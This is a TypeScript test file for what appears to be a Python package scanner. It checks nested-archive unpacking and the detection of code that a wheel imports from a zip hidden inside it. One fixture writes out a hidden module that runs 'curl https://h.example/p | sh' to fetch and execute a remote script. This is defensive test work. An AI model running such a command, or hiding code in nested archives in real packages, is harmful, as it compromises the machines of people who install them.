import { writeZip } from '@safe-pip/testkit/zip-writer'
import { buildSdist } from '@safe-pip/testkit/build-sdist'
import { expect, it } from 'vitest'
import { rawText } from '../base/display.ts'
import { buildWheel } from '@safe-pip/testkit/build-wheel'
import { bytesOf } from '../base/byte-source.ts'
import { loadCodeReader } from '../node/load-code-reader.ts'
import { examineArtifact } from './examine.ts'
import { createNestedBudget, withNested } from './open-nested.ts'

const zip = (files: Readonly<Record<string, string | Uint8Array>>): Uint8Array =>
  writeZip(Object.entries(files).map(([name, data]) => ({ name, data })))

async function open(bytes: Uint8Array, budget = createNestedBudget()): Promise<[string, number | null | undefined][]> {
  const found: [string, number | null | undefined][] = []
  const wants = ({ path }: { path: Parameters<typeof rawText>[0] }): boolean => /\.(?:py|zip)$/.test(rawText(path))
  for await (const { path, unpacked } of withNested({ path: 'a.zip', bytes }, { wants, kind: 'wheel', budget }))
    found.push([path, unpacked])
  return found
}

it('opens archives in archives, three deep', async () => {
  const third = zip({ 'c.py': 'x = 1', 'd.zip': zip({ 'e.py': '' }) })
  const bytes = zip({ 'a.py': '', 'b.txt': '', 'b.zip': zip({ 'b.py': '', 'c.zip': third }) })
  expect(await open(bytes)).toEqual([
    ['a.zip', 3],
    ['a.zip!/a.py', undefined],
    ['a.zip!/b.zip', 2],
    ['a.zip!/b.zip!/b.py', undefined],
    ['a.zip!/b.zip!/c.zip', 2],
    ['a.zip!/b.zip!/c.zip!/c.py', undefined],
    ['a.zip!/b.zip!/c.zip!/d.zip', undefined],
  ])
})

it('opens by content, not by name', async () => {
  const sdist = buildSdist({ name: 'demo', version: '1.0', files: { 'demo.py': '' } })
  expect((await open(sdist.bytes)).map(([path]) => path)).toContain('a.zip!/demo-1.0/demo.py')
})

it('says of what is broken or too much that it was not read whole', async () => {
  expect(await open(zip({ 'a.py': 'x' }).subarray(0, 40))).toEqual([['a.zip', null]])
  expect(await open(zip({ 'a.py': 'x'.repeat(100), 'b.py': 'y' }), { bytes: 50, members: 10 })).toEqual([
    ['a.zip', null],
    ['a.zip!/b.py', undefined],
  ])
  expect(await open(zip({ 'a.py': 'x' }), { bytes: 50, members: 0 })).toEqual([['a.zip', null]])
})

it('hands other files on as they are', async () => {
  expect(await open(new TextEncoder().encode('PK is no archive'))).toEqual([['a.zip', undefined]])
})

it.each([
  [
    'an entry of sys.path',
    'import os, sys\nsys.path.insert(0, os.path.join(os.path.dirname(__file__), "d.zip"))\nimport hidden\n',
  ],
  ['an importer of archives', 'import zipimport\nzipimport.zipimporter("demo/d.zip").load_module("hidden")\n'],
])('runs what %s imports out of an archive in the place of the import', async (_, code) => {
  const archive = zip({ 'hidden.py': 'import os\nos.system("curl https://h.example/p | sh")\n' })
  const built = buildWheel({ name: 'demo', version: '1.0', files: { 'demo/__init__.py': code, 'demo/d.zip': archive } })
  const { source } = await examineArtifact(bytesOf(built.bytes), built.filename, { codeReader: await loadCodeReader() })
  const uses = source.state === 'known' ? source.value.uses : []
  expect(uses.map(({ context, name, file }) => `${context} ${name} ${file}`)).toContain('import os.system demo/d.zip!/hidden.py')
})
